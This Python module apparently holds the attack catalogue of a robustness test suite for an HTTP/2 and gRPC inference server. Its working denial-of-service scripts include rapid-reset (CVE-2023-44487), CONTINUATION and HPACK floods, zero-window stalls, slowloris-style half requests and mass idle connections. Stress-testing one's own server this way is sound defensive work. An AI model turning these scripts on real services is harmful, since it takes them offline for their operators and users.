"""The attacks. Each is a script that one connection plays: a generator of bytes to send and of seconds to wait,
made by a function under @attack, which says how many connections play it and how they read. A connection that
the server closes is opened anew. Standard library only."""

import dataclasses
import functools
import itertools
import random
from typing import Callable

import wire
from wire import (ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, OPENING, PING, PREFACE,
                  PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, data, frame, head, literal, message, request,
                  settings)

ATTACKS = {}
BATCH = 64  # requests or frames in one write
BIG = 4 << 20
NO_WINDOW = PREFACE + settings(s4=0)


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    script: Callable
    connections: int = 4
    reads: bool = True  # what the server sends
    answers_pings: bool = False
    receive_buffer: int = 0  # of the socket, in bytes; 0 is the system's
    reopen_after: float = 0.02  # seconds after the server closed one
    hangs_up: bool = False  # at the script's end, and begins anew
    resets: bool = False  # TCP resets instead of orderly ends
    addresses: int = 1  # that the connections come from
    server_flags: tuple = ()
    server_files: int = 0  # the server's `ulimit -n`; 0: as it is
    growth: int = 64 << 20  # bytes of memory that it may cost
    cores: float = 0.5  # of the processor that it may cost


def attack(**options):
    def add(function):
        ATTACKS[function.__name__] = Attack(function.__name__, function, **options)
        return function
    return add


def streams(step=2):
    return itertools.count(1, step)


# Header blocks.

@attack(connections=16)
def header_lists():
    """Lists of 1 MB in fields of 64 KB."""
    yield OPENING
    for stream in streams():
        block = head(wire.GET_MODEL, *((f"x-{i}", "v" * 65000) for i in range(16)))
        yield frame(HEADERS, END_STREAM, stream, block[:16384])
        rest = range(16384, len(block), 16384)
        yield b"".join(frame(CONTINUATION, END_HEADERS if i == rest[-1] else 0, stream, block[i:i + 16384])
                       for i in rest)


@attack(connections=16)
def header_list_of_references():
    """One small block that unpacks to a megabyte: one field of 4 KB, named thousands of times."""
    yield OPENING
    value = literal("x", "v" * 3900, indexed=True)
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream,
                    head(wire.GET_MODEL) + (value if stream == 1 else b"") + b"\xbe" * 12000)


@attack(connections=16)
def paths_of_slashes():
    """HTTP/1.1: a path that has as many folders as bytes."""
    while True:
        yield (b"GET " + b"/" * 15000 + b"x HTTP/1.1\r\nHost: localhost\r\n\r\n") * 4


@attack(connections=4)
def endless_continuation():
    yield OPENING + frame(HEADERS, END_STREAM, 1, head(wire.GET_MODEL))
    piece = b"".join(literal(f"x-{i}", "v") for i in range(2000))[:16384]
    while True:
        yield frame(CONTINUATION, 0, 1, piece)


@attack(connections=4)
def empty_continuations():
    yield OPENING + frame(HEADERS, END_STREAM, 1, head(wire.GET_MODEL))
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


@attack(connections=4)
def endless_value():
    """CVE-2023-33953: one value of a declared gigabyte."""
    yield OPENING + frame(HEADERS, END_STREAM, 1, head(wire.GET_MODEL) + b"\0\1a" + wire.integer(1 << 30, 7))
    while True:
        yield frame(CONTINUATION, 0, 1, b"a" * 16384)


@attack(connections=4)
def endless_varint():
    yield OPENING + frame(HEADERS, END_STREAM, 1, head(wire.GET_MODEL) + b"\0\1a\x7f")
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x80" * 16384)


@attack(connections=1500)
def unended_header_blocks():
    yield OPENING + frame(HEADERS, END_STREAM, 1, head(wire.GET_MODEL, ("x", "v" * 14000)))
    while True:
        yield 1.0
        yield frame(CONTINUATION, 0, 1, b"")


@attack(connections=8)
def table_abuse():
    """Fills and empties the HPACK table again and again."""
    yield OPENING
    resize = b"\x20" + wire.integer(4096, 5, 0x20)
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, resize + head(wire.GET_MODEL) + b"".join(
            literal(f"{stream}-{i}", "v" * 200, indexed=True) for i in range(60)))


@attack(connections=1500)
def full_tables():
    """The largest table on many connections, kept."""
    yield PREFACE + settings(s1=1 << 30) + frame(HEADERS, END_HEADERS | END_STREAM, 1, head(
        wire.GET_MODEL) + b"".join(literal(f"n{i}", "", indexed=True) for i in range(120)))


@attack(connections=1000)
def kept_heads():
    """Health watches whose heads are as large as allowed."""
    yield NO_WINDOW
    body = data(0, b"")
    for stream in itertools.islice(streams(), 200):
        yield (frame(HEADERS, END_HEADERS, stream, head(wire.WATCH, ("x", "v" * 15000))) +
               data(stream, message(), end=True))


# Messages.

@attack(connections=64)
def unfinished_messages():
    """4 MB of each stream, without the last byte."""
    yield OPENING
    piece = b"p" * 16384
    opened = list(itertools.islice(streams(), 100))
    yield b"".join(frame(HEADERS, END_HEADERS, stream, head(wire.GENERATE)) +
                   frame(DATA, 0, stream, message(b"", BIG - 100)) for stream in opened)
    for _ in range((BIG - 20000) // 16384):
        for stream in opened:
            yield frame(DATA, 0, stream, piece)


@attack(connections=300)
def trickled_messages():
    """A big message at a byte a second."""
    yield OPENING
    opened = list(itertools.islice(streams(), 20))
    yield b"".join(frame(HEADERS, END_HEADERS, stream, head(wire.GENERATE)) +
                   frame(DATA, 0, stream, message(b"p" * 3000, BIG - 100)) for stream in opened)
    while True:
        yield 1.0
        yield b"".join(frame(DATA, 0, stream, b"p") for stream in opened)


@attack(connections=200)
def announced_messages():
    """Nothing but the length of a big message, on many streams."""
    yield OPENING
    for stream in itertools.islice(streams(), 1000):
        yield frame(HEADERS, END_HEADERS, stream, head(wire.GENERATE)) + frame(
            DATA, 0, stream, message(b"", 4000))


@attack(connections=100)
def big_prompts():
    """Hundreds of prompts of 3.9 MB at once."""
    yield OPENING
    body = wire.generate("the quick brown fox " * 195_000, 4)
    for stream in streams():
        yield request(stream, wire.GENERATE, body)


@attack(connections=40, hangs_up=True, resets=True)
def abandoned_big_requests():
    body = wire.generate("the quick brown fox " * 190_000, 4)
    yield OPENING + b"".join(request(stream, wire.GENERATE, body) for stream in (1, 3))


@functools.cache
def request_of_many_keys():
    keys = ",".join(f'"k{i:050}":1' for i in range(32_000))
    chat = wire.field(1, wire.field(1, "user") + wire.field(2, "hello")) + wire.field(4, "{" + keys + "}")
    return request(1, wire.GENERATE, wire.field(5, chat) + wire.field(7, wire.field(1, 4)))


@attack(connections=8, hangs_up=True)
def abandoned_json():
    """1.8 MB of JSON with as many distinct keys as are taken; gone before the answer."""
    yield OPENING + request_of_many_keys()
    yield 0.01


# Streams.

def reset(stream):
    return frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))


@attack()
def rapid_reset():
    """CVE-2023-44487: requests without their messages."""
    yield OPENING
    for first in streams(2 * BATCH):
        yield b"".join(frame(HEADERS, END_HEADERS, first + 2 * i, head(wire.GENERATE)) + reset(first + 2 * i)
                       for i in range(BATCH))


@attack()
def rapid_reset_of_requests():
    yield OPENING
    body = wire.generate("hello there", 100)
    for first in streams(2 * BATCH):
        yield b"".join(request(first + 2 * i, wire.GENERATE, body) + reset(first + 2 * i) for i in range(BATCH))


@attack(connections=256)
def rapid_reset_of_many():
    yield from rapid_reset()


@attack()
def made_you_reset():
    """CVE-2025-8671: the server is made to reset the streams, by window updates of nothing."""
    yield OPENING
    body = wire.generate("hello there", 100)
    for first in streams(2 * BATCH):
        yield b"".join(request(first + 2 * i, wire.GENERATE, body) +
                       frame(WINDOW_UPDATE, 0, first + 2 * i, bytes(4)) for i in range(BATCH))


@attack()
def unknown_methods():
    yield OPENING
    for first in streams(2 * BATCH):
        yield b"".join(request(first + 2 * i, f"/no.such.Service/Method{first}") for i in range(BATCH))


@attack(connections=64, hangs_up=True)
def unknown_methods_on_new_connections():
    yield OPENING + b"".join(request(stream, "/no.such.Service/Method") for stream in range(1, 21, 2))
    yield 0.02


@attack()
def malformed_heads():
    """Bad content types, missing and doubled pseudo-headers, CR, LF and NUL in values, upper-case names."""
    yield OPENING
    good = head(wire.GET_MODEL)
    blocks = [head(wire.GET_MODEL, content_type="text/html"), head(wire.GET_MODEL, content_type=""),
              head(wire.GET_MODEL, method="GET"), literal(":method", "POST"), good + literal(":path", "/x"),
              head(wire.GET_MODEL, ("x", "a\r\nb: c")), head(wire.GET_MODEL, ("x", "a\0b")),
              head(wire.GET_MODEL, ("UPPER", "x")), head(wire.GET_MODEL, ("connection", "close")), b"",
              head(wire.GET_MODEL, ("grpc-timeout", "x" * 100)), head(wire.GET_MODEL, ("grpc-encoding", "gzip")),
              head("no slash"), head("/" * 8000)]
    for first in streams(2 * len(blocks)):
        yield b"".join(frame(HEADERS, END_HEADERS, first + 2 * i, block) + data(first + 2 * i, message(), True)
                       for i, block in enumerate(blocks))


@attack(connections=64)
def stream_misuse():
    """Frames on idle, closed, even and descending streams."""
    yield OPENING + request(5, wire.GET_MODEL)
    yield 0.01
    yield random.choice([
        request(3, wire.GET_MODEL), request(2, wire.GET_MODEL), data(5, b"x" * 100), data(7, b"x"), reset(9),
        frame(WINDOW_UPDATE, 0, 11, b"\0\0\0\1"), frame(HEADERS, END_HEADERS, 0, head(wire.GET_MODEL)),
        frame(CONTINUATION, END_HEADERS, 5, b""), frame(5, END_HEADERS, 1, b"\0\0\0\2" + head("/x")),
        frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2, request((1 << 31) - 1, wire.GET_MODEL) * 2,
        frame(SETTINGS, ACK, 0, b"x"), settings(s4=1 << 31), settings(s5=1), frame(PING, 0, 0, b"x"),
        frame(PRIORITY, 0, 5, b"\0\0\0\5\1")])


@attack(connections=64)
def data_on_closed_streams():
    yield OPENING + request(1, wire.GET_MODEL) + reset(1)
    while True:
        yield data(1, b"x" * 16000) * 4


@attack(connections=64)
def garbage():
    yield OPENING if random.random() < 0.5 else b""
    while True:
        if random.random() < 0.3:
            yield frame(random.randrange(16), random.randrange(256), random.randrange(8), b"", 0xFFFFFF)
        yield random.randbytes(4096)


# Continuations: small requests that ask for thousands of them.

MANY = 128  # continuations of a prompt


@attack(connections=32, hangs_up=True, resets=True, reopen_after=0)
def abandoned_continuations():
    """A list of prompts, 3,072 continuations, and gone."""
    yield wire.http1(wire.COMPLETIONS, wire.completion(24, MANY))
    yield 0.005


@attack(connections=32, hangs_up=True, resets=True, reopen_after=0)
def abandoned_streams_of_continuations():
    yield wire.http1(wire.COMPLETIONS, wire.completion(24, MANY, stream=True, logprobs=5))
    yield 0.05


# Each of the 200 may cost something; all of them together make some 6,000 connections a second, a quarter of whose cost
# is the kernel's and as much the look at what is asked for.
@attack(connections=200, hangs_up=True, resets=True, reopen_after=0, addresses=200, cores=0.7)
def abandoned_continuations_of_many_addresses():
    yield wire.http1(wire.COMPLETIONS, wire.completion(24, MANY))
    yield 0.005


@attack(connections=32)
def refused_continuations():
    """Lists that find no room, on connections that stay."""
    while True:
        yield wire.http1(wire.COMPLETIONS, wire.completion(24, MANY))
        yield 0.001


@attack()
def reset_continuations():
    """Over HTTP/2, each stream reset."""
    yield OPENING
    body = wire.completion(24, MANY)
    for stream in streams():
        yield (frame(HEADERS, END_HEADERS, stream, wire.json_head(wire.COMPLETIONS)) +
               data(stream, body, end=True))
        yield 0.002
        yield reset(stream)


@attack()
def rapid_reset_of_continuations():
    """CVE-2023-44487 with 128 continuations a request."""
    yield OPENING
    body = wire.generate("hello there", 1000, n=MANY)
    for first in streams(2 * BATCH):
        yield b"".join(request(first + 2 * i, wire.GENERATE, body) for i in range(BATCH))
        yield b"".join(reset(first + 2 * i) for i in range(BATCH))


@attack()
def continuations_without_time():
    """Deadlines of a nanosecond, and of a millisecond."""
    yield OPENING
    body = wire.generate("hello there", 1000, n=MANY)
    for first in streams(2 * BATCH):
        yield b"".join(request(first + 2 * i, wire.GENERATE, body, ("grpc-timeout", "1n" if i % 2 else "1m"))
                       for i in range(BATCH))


@attack(connections=64)
def windowless_continuations():
    """They end at once, and no window lets their answers out."""
    yield NO_WINDOW
    body = wire.generate("hello", 1, n=MANY)
    for stream in itertools.islice(streams(), 1000):
        yield request(stream, wire.GENERATE, body)


@attack(connections=64)
def windowless_logprobs_of_streams():
    """Tokens with the logprobs of 20 others, which nobody takes."""
    yield NO_WINDOW
    body = wire.generate("hello", 1000, logprobs=20)
    for stream in itertools.islice(streams(), 1000):
        yield request(stream, wire.GENERATE, body)


# Frames that serve nobody.

@attack()
def pings():
    yield OPENING
    while True:
        yield frame(PING, 0, 0, b"12345678") * 1000


@attack(reads=False, receive_buffer=2048)
def unread_pings():
    yield OPENING
    while True:
        yield frame(PING, 0, 0, b"12345678") * 1000


@attack()
def settings_flood():
    yield OPENING
    while True:
        yield settings(s4=65535) * 1000


@attack()
def window_of_all_streams():
    """Each SETTINGS moves the window of a thousand streams."""
    yield NO_WINDOW
    yield b"".join(request(stream, wire.WATCH) for stream in range(1, 2001, 2))
    while True:
        yield (settings(s4=0) + settings(s4=1)) * 200


@attack()
def window_updates():
    yield OPENING
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000


@attack()
def priorities():
    yield OPENING
    for first in streams(2000):
        yield b"".join(frame(PRIORITY, 0, first + 2 * i, b"\0\0\0\0\x10") for i in range(1000))


@attack()
def empty_data():
    yield OPENING + frame(HEADERS, END_HEADERS, 1, head(wire.GENERATE))
    while True:
        yield frame(DATA, 0, 1) * 1000


@attack()
def padded_data():
    """Frames of 16 KB that are padding but for one byte."""
    yield OPENING + frame(HEADERS, END_HEADERS, 1, head(wire.GENERATE)) + data(1, message(b"", BIG - 100))
    while True:
        yield frame(DATA, wire.PADDED, 1, b"\xff" + b"x" + bytes(255)) * 64


@attack()
def one_byte_data():
    yield OPENING + frame(HEADERS, END_HEADERS, 1, head(wire.GENERATE)) + data(1, message(b"", BIG - 100))
    while True:
        yield frame(DATA, 0, 1, b"x") * 1000


@attack()
def unknown_frames():
    yield OPENING
    while True:
        yield frame(0x42, 0, 0, b"x") * 1000


@attack()
def big_unknown_frames():
    yield OPENING
    while True:
        yield frame(0x42, 0, 0, b"x" * 16384) * 4


# Answers that nobody reads.

@attack(connections=64, reads=False, receive_buffer=2048)
def unread_tokens():
    yield OPENING
    body = wire.tokenize("the quick brown fox " * 20_000)
    for stream in streams():
        yield request(stream, wire.TOKENIZE, body)


@attack(connections=64)
def windowless_tokens():
    yield NO_WINDOW
    body = wire.tokenize("the quick brown fox " * 5_000)
    for stream in itertools.islice(streams(), 1000):
        yield request(stream, wire.TOKENIZE, body)


@attack(connections=64)
def windowless_logprobs():
    yield NO_WINDOW
    body = wire.generate("the quick brown fox " * 20, 64, logprobs=20)
    for stream in itertools.islice(streams(), 1000):
        yield request(stream, wire.GENERATE_ONCE, body)


@attack(connections=200)
def windowless_models():
    """Small answers that no window lets out, on as many streams as there may be."""
    yield NO_WINDOW
    for stream in itertools.islice(streams(), 1024):
        yield request(stream, wire.GET_MODEL)


@attack(connections=200)
def windowless_tokenizers():
    """The same of answers of 20 KB and more that one copy serves."""
    yield NO_WINDOW
    for stream in itertools.islice(streams(), 1024):
        yield request(stream, wire.GET_TOKENIZER)


@attack(connections=64)
def windowless_streams():
    yield NO_WINDOW
    body = wire.generate("hello", 1000)
    for stream in itertools.islice(streams(), 1000):
        yield request(stream, wire.GENERATE, body)


@attack(connections=256, reads=False, receive_buffer=2048)
def unread_streams():
    """The TCP window closes."""
    yield OPENING
    body = wire.generate("hello", 1000)
    for stream in itertools.islice(streams(), 1000):
        yield request(stream, wire.GENERATE, body)


@attack(connections=32, reads=False, receive_buffer=2048)
def unread_refusals():
    yield OPENING
    for first in streams(2 * BATCH):
        yield b"".join(request(first + 2 * i, "/no.such.Service/" + "x" * 1000) for i in range(BATCH))


@attack(connections=1500)
def fat_connections():
    """Connections that got one large answer and stay."""
    yield PREFACE + settings(s4=1 << 30) + frame(WINDOW_UPDATE, 0, 0, b"\x3f\0\0\0")
    yield request(1, wire.TOKENIZE, wire.tokenize("the quick brown fox " * 1500))


@attack(connections=200)
def watches():
    yield OPENING
    for stream in itertools.islice(streams(), 1024):
        yield request(stream, wire.WATCH)


@attack(connections=200)
def reflection_streams():
    yield OPENING
    body = wire.message(wire.field(7, ""))
    for stream in itertools.islice(streams(), 1024):
        yield frame(HEADERS, END_HEADERS, stream, head(wire.REFLECTION)) + frame(DATA, 0, stream, body)


@attack()
def reflection_flood():
    """One stream that asks without end for the largest file."""
    yield OPENING + frame(HEADERS, END_HEADERS, 1, head(wire.REFLECTION))
    ask = frame(DATA, 0, 1, message(wire.field(4, "quire.v1.Inference")))
    while True:
        yield ask * 200


# Connections.

@attack(connections=4500, answers_pings=True)
def idle_connections():
    yield OPENING


@attack(connections=4500, answers_pings=True, addresses=2000)
def idle_connections_of_many_addresses():
    yield OPENING


@attack(connections=4500, addresses=2000, growth=80 << 20)
def busy_connections_of_many_addresses():
    """Each has a health watch; some 18 KiB for each of the 4,096 that a server takes."""
    yield OPENING + request(1, wire.WATCH)


@attack(connections=2000, server_files=1024)
def connections_beyond_files():
    yield OPENING


@attack(connections=2000)
def silent_connections():
    return
    yield


@attack(connections=2000)
def half_prefaces():
    yield b"PRI "


@attack(connections=2000)
def no_settings():
    yield PREFACE


@attack(connections=4500, addresses=2)
def half_bodies():
    """A head that announces 99 bytes, which never come."""
    yield wire.http1(wire.COMPLETIONS, b"", length=99)


@attack(connections=4500, addresses=2)
def trickled_bodies():
    yield wire.http1(wire.COMPLETIONS, b"", length=9999)
    while True:
        yield 2.0
        yield b" "


@attack(connections=4500, addresses=2)
def half_heads():
    yield b"POST /v1/completions HTTP/1.1\r\nhost: 127.0.0.1\r\n"


@attack(connections=4500, addresses=2, answers_pings=True, growth=80 << 20)
def streams_without_data():
    yield OPENING + frame(HEADERS, END_HEADERS, 1, head(wire.GENERATE)) + frame(
        HEADERS, END_HEADERS, 3, wire.json_head(wire.COMPLETIONS))


@attack(connections=4500, addresses=2, answers_pings=True, growth=80 << 20)
def windowless_answers():
    """One answer on each connection that no window lets out."""
    yield NO_WINDOW + request(1, wire.GET_MODEL)


@attack(connections=4500, addresses=2)
def bodies_after_refusals():
    """What is refused by its head alone, and whose body never comes."""
    yield wire.http1("/no/such/path", b"", length=99)


@attack(connections=500, hangs_up=True, resets=True, reopen_after=0)
def connection_churn():
    yield OPENING
